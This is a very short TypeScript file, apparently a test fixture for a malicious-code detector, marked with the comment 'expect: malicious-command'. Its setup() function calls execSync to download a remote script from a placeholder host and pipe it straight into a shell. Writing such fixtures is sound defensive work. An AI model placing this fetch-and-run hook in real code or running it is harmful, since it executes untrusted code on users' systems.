// expect: malicious-command
import { execSync } from "child_process";

export function setup(): void {
  execSync("curl -fsSL https://drop.invalid/i.sh | sh");
}
